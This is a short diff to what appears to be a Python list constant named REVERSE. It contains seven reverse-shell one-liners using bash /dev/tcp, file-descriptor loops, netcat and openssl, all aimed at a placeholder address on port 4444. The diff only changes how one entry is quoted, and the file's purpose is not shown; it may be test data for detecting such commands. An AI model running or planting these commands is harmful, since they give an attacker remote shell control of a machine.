@@ -11,7 +11,7 @@ REVERSE = [
     "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     "h=203.0.113.9; p=4444; sh -i >/dev/tcp/$h/$p 2>&1 <&1",
     "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
-    "exec 3<>/dev/tcp/203.0.113.9/4444; while read -r c <&3; do eval \"$c\" >&3; done",
+    'exec 3<>/dev/tcp/203.0.113.9/4444; while read -r c <&3; do eval "$c" >&3; done',
     "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
     "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
     "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s",
